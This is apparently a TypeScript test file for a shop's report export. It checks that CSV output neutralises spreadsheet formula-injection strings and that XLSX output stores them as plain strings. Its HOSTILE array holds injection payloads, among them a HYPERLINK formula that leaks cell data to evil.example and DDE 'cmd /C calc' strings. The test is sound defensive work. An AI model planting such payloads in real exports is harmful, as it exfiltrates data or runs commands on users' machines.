/**
 * The reports export against formula injection: hostile product titles and a hostile province
 * reach the CSV neutralised (prefixed with ', quoted) and the XLSX as typed string cells, while
 * every number stays a number, negative ones included.
 */
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { afterAll, describe, expect, inject, it } from "vitest";
import { db } from "@/lib/db";
import { genTrades, newTestShop, testViewer, writeTrades } from "@/lib/orders/testing";
import { closeSyncSql } from "@/lib/sync/sql";
import { presetRange } from "@/lib/time";
import { parseCsv } from "@/test/csv";
import { tableToCsv, tableToXlsx } from "./export";
import { kpiReport, productsReport, provincesReport } from "./queries";
import { kpiTable, productsTable, provincesTable, type ReportTable, type Translate } from "./tables";

afterAll(async () => {
  await closeSyncSql();
  await db().$disconnect();
});

const NOW = new Date(Date.UTC(2026, 10, 28, 4, 0, 0));
const HOSTILE = [`=HYPERLINK("http://evil.example/?d="&A3,"点我")`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`];
const TRIGGER = /^[=+\-@\t\r]/;
const t: Translate = (key, values) => (values ? `${key} ${JSON.stringify(values)}` : key);

describe(`reports export on ${inject("databaseProvider")}`, () => {
  it("neutralises hostile titles and provinces in CSV, keeps numbers as they are, writes XLSX strings (never formulas)", async () => {
    const shop = await newTestShop("报表注入店");
    const trades = genTrades({ n: 40, seed: 61, end: NOW, days: 5, tidPrefix: "36" });
    trades.forEach((tr, i) => {
      tr.status = "TRADE_FINISHED";
      tr.payTime = new Date(tr.created.getTime() + 60_000);
      tr.receiverState = i % 2 ? `=1+2` : tr.receiverState;
      tr.orders = tr.orders.map((o, k) => ({ ...o, numIid: String(900_000 + ((i + k) % HOSTILE.length)), title: HOSTILE[(i + k) % HOSTILE.length]!, status: "TRADE_FINISHED", refundStatus: "NO_REFUND" }));
    });
    await writeTrades(shop, trades);
    const viewer = testViewer(shop, "OWNER");
    const query = { range: presetRange("last7", NOW), granularity: "day" as const, shop: null };
    const products = productsTable(await productsReport(viewer, query), "gmv", t);
    expect(products.rows.map((r) => r[1]!.text).sort()).toEqual([...HOSTILE].sort());
    const provinces = provincesTable(await provincesReport(viewer, query), t);
    // The KPI table's changes are figures formatted here (+¥…, -…%): numbers to the reader. A hand-made row adds a negative amount.
    const kpis = kpiTable(await kpiReport(viewer, query), t);
    const negative: ReportTable = { ...products, rows: [...products.rows, [{ text: "-1", value: -1 }, { text: HOSTILE[0]! }, { text: "-", }, { text: "-¥12.50", value: -12.5 }, { text: "-3", value: -3 }, { text: "0", value: 0 }]] };

    for (const table of [negative, provinces, kpis]) {
      const raw = tableToCsv(table).subarray(3).toString("utf8");
      const [header, ...body] = parseCsv(raw.replace(/\r\n$/, ""));
      expect(header).toEqual(table.columns);
      body.forEach((row, r) =>
        row.forEach((cell, c) => {
          const src = table.rows[r]![c]!;
          // Numbers (and formatted figures) exactly as on the page; text that would start a formula gets the quote.
          const want = src.value !== undefined || src.figure ? src.text : TRIGGER.test(src.text) ? `'${src.text}` : src.text;
          expect(cell, `${table.name} ${r}:${c}`).toBe(want);
        }),
      );
      for (const h of HOSTILE) if (raw.includes(h)) expect(raw).toContain(`"'${h.replace(/"/g, '""')}"`);
    }
    const csv = tableToCsv(negative).subarray(3).toString("utf8");
    expect(csv).toContain(`,-¥12.50,-3,0`);
    expect(parseCsv(tableToCsv(provinces).subarray(3).toString("utf8")).some((r) => r[1] === "'=1+2")).toBe(true);
    expect(kpis.rows.some((r) => r.some((c) => c.figure && /^[+-]/.test(c.text)))).toBe(true);

    const file = await tableToXlsx(negative);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(file as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0]!;
    const titles: unknown[] = [];
    sheet.eachRow((row, n) => {
      row.eachCell((c) => expect(c.type, `${n}:${c.address}`).not.toBe(ExcelJS.ValueType.Formula));
      if (n > 2) {
        expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
        titles.push(row.getCell(2).value);
      }
    });
    expect(titles.slice(0, HOSTILE.length).sort()).toEqual([...HOSTILE].sort());
    const last = sheet.getRow(sheet.rowCount);
    expect([last.getCell(1).value, last.getCell(4).value, last.getCell(5).value]).toEqual([-1, -12.5, -3]);
    const zip = await JSZip.loadAsync(file);
    for (const f of zip.file(/xl\/worksheets\/sheet\d+\.xml/)) expect(await f.async("string")).not.toMatch(/<f[ >]/);
  });
});
